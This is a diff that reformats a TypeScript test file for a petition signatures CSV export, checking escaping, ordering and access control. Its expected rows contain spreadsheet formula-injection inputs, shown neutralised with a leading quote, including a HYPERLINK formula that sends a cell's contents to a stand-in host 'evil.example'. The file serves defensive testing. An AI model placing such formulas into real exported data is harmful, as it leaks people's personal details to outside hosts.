@@ -6,7 +6,16 @@ import { DataSource } from 'typeorm';
 import { DatabasePools } from '../src/common/database/database-pools';
 import { SIGNATURE_EXPORT_COLUMNS, SignaturesExportService } from '../src/modules/petitions/signatures-export.service';
 import { SIGN_PETITION } from './support/documents';
-import { confirmQueuedSignatures, createApiKey, createChapter, createOrganisation, joinChapter, makeOrganiser, registerUser, TestUser } from './support/factories';
+import {
+  confirmQueuedSignatures,
+  createApiKey,
+  createChapter,
+  createOrganisation,
+  joinChapter,
+  makeOrganiser,
+  registerUser,
+  TestUser,
+} from './support/factories';
 import { startTestApp, TestApp } from './support/test-app';
 
 const HEADER = 'signed_at,full_name,email,postcode,country,comment,display_publicly,contact_consent,consent_wording_id,consented_at,source';
@@ -145,14 +154,62 @@ describe('signatures CSV export', () => {
       (r: { email: string }) => r.email,
     );
     const tied: Record<string, string[]> = {
-      'ana@example.org': ['2026-03-01T10:00:02.500Z', "'@Ana Quispe", 'ana@example.org', '', '', "'\r\nstarts with a carriage return", 'false', 'false', '', '', "'-utm"],
-      'calc@example.org': ['2026-03-01T10:00:02.500Z', "'=1+1", 'calc@example.org', '', '', "'-2+3", 'false', 'true', w.wordingId, '2026-03-01T10:00:02.500Z', "'@partner"],
+      'ana@example.org': [
+        '2026-03-01T10:00:02.500Z',
+        "'@Ana Quispe",
+        'ana@example.org',
+        '',
+        '',
+        "'\r\nstarts with a carriage return",
+        'false',
+        'false',
+        '',
+        '',
+        "'-utm",
+      ],
+      'calc@example.org': [
+        '2026-03-01T10:00:02.500Z',
+        "'=1+1",
+        'calc@example.org',
+        '',
+        '',
+        "'-2+3",
+        'false',
+        'true',
+        w.wordingId,
+        '2026-03-01T10:00:02.500Z',
+        "'@partner",
+      ],
     };
     const rows = csvOf(text);
     expect(rows[0]).toEqual([...SIGNATURE_EXPORT_COLUMNS]);
     expect(rows.slice(1)).toEqual([
-      ['2026-03-01T10:00:00.000Z', 'Ñandú José', 'nandu@example.org', 'SW1A 1AA', 'GB', 'Línea uno\nLínea "dos", con coma', 'true', 'true', w.wordingId, '2026-03-01T10:00:00.000Z', 'web'],
-      ['2026-03-01T10:00:01.000Z', 'Smith, Jane "JJ"', 'jane@example.org', "'-1", '', '\'=HYPERLINK("https://evil.example/?q="&A1,"click")', 'false', 'false', '', '', "'+44 campaign"],
+      [
+        '2026-03-01T10:00:00.000Z',
+        'Ñandú José',
+        'nandu@example.org',
+        'SW1A 1AA',
+        'GB',
+        'Línea uno\nLínea "dos", con coma',
+        'true',
+        'true',
+        w.wordingId,
+        '2026-03-01T10:00:00.000Z',
+        'web',
+      ],
+      [
+        '2026-03-01T10:00:01.000Z',
+        'Smith, Jane "JJ"',
+        'jane@example.org',
+        "'-1",
+        '',
+        '\'=HYPERLINK("https://evil.example/?q="&A1,"click")',
+        'false',
+        'false',
+        '',
+        '',
+        "'+44 campaign",
+      ],
       tied[ana],
       tied[calc],
       ['2026-03-01T10:00:05.000Z', "'\tTabbed Name", 'tab@example.org', '', '', "'\tindented", 'false', 'false', '', '', "'\rcr"],
@@ -192,7 +249,11 @@ describe('signatures CSV export', () => {
     ];
     for (const [who, token] of cases) {
       const res = await get(w.petition.id, token);
-      expect({ who, status: res.status, type: res.headers.get('content-type') }).toEqual({ who, status: 403, type: expect.stringMatching(/^application\/json/) });
+      expect({ who, status: res.status, type: res.headers.get('content-type') }).toEqual({
+        who,
+        status: 403,
+        type: expect.stringMatching(/^application\/json/),
+      });
       expect(await res.text()).not.toContain('example.org');
     }
     // A CHAPTER petition is visible to its members: still 403 for them.
